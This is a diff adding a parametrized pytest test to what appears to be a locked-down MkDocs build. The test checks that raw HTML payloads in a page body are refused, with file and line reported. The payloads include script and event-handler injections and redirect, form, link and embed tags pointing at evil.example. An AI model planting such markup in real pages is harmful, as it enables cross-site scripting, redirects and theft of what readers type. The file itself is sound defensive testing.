@@ -252,3 +252,51 @@ def test_refused_cases_stop_the_build_with_one_line_each_and_keep_the_site(tmp_p
     assert not missing, f"lines missing for {missing}:\n{output}"
     assert tree_digest(good / "site") == before, "a failed build changed the last good site/"
     assert not list(good.glob("site.building-*"))
+
+
+# Raw HTML in a page's own body that would run, restyle, redirect, load or send: each refused by a real strict build
+# with the file and the line that holds it (one build per payload: MkDocs stops at the first page it refuses).
+BODY_PAYLOADS = {
+    "script": ("<script>alert(1)</script>", "<script> runs script"),
+    "module script in markdown div": (
+        '<div markdown="1">\n\n*x*\n\n<script type="module">alert(1)</script>\n\n</div>',
+        "<script> runs script",
+    ),
+    "style hiding the page": ("<style>body{display:none}</style>", "<style> restyles the page"),
+    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta> can redirect"),
+    "link": ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link> loads another file"),
+    "base": ('<base href="https://evil.example/">', "<base> changes where every link"),
+    "iframe srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe> shows another document"),
+    "object": ('<object data="https://evil.example/x"></object>', "<object> loads a plugin"),
+    "embed": ('<embed src="https://evil.example/x">', "<embed> loads a plugin"),
+    "form": ('<form action="https://evil.example/"><input name="code"></form>', "<form> sends what a reader types"),
+    "event handler": ("<b onmouseover=alert(1)>hover</b>", "<b onmouseover=…> runs script"),
+}
+
+
+@pytest.mark.parametrize("name", list(BODY_PAYLOADS))
+def test_raw_html_that_acts_in_a_body_stops_the_build_with_file_and_line(tmp_path: Path, name: str) -> None:
+    payload, reason = BODY_PAYLOADS[name]
+    started = time.monotonic()
+    config = write_pages(tmp_path)
+    target = tmp_path / "docs" / "procedures" / "a.md"
+    text = target.read_text(encoding="utf-8")
+    target.write_text(text + "\nBefore.\n\n" + payload + "\n", encoding="utf-8")
+    element = reason.split(">")[0].split(" ")[0]  # "<script", "<b"
+    line = (text + "\nBefore.\n\n").count("\n") + 1 + payload[: payload.index(element)].count("\n")
+    result = safe_build(config, tmp_path / "site")
+    output = result.stdout + result.stderr
+    outcome = "refused" if result.returncode == 1 and "Traceback" not in output else "wrong"
+    expected = f"procedures/a.md: line {line}: {reason}"
+    RESULTS.append(
+        Result(
+            Case("markup", f"build: body {name}", lambda docs: None, Refused("procedures/a.md", f"line {line}", "")),
+            outcome if expected in output else "wrong",
+            output[-400:],
+            time.monotonic() - started,
+        )
+    )
+    assert result.returncode == 1, output
+    assert "Traceback" not in output
+    assert expected in output, output
+    assert not (tmp_path / "site").exists()
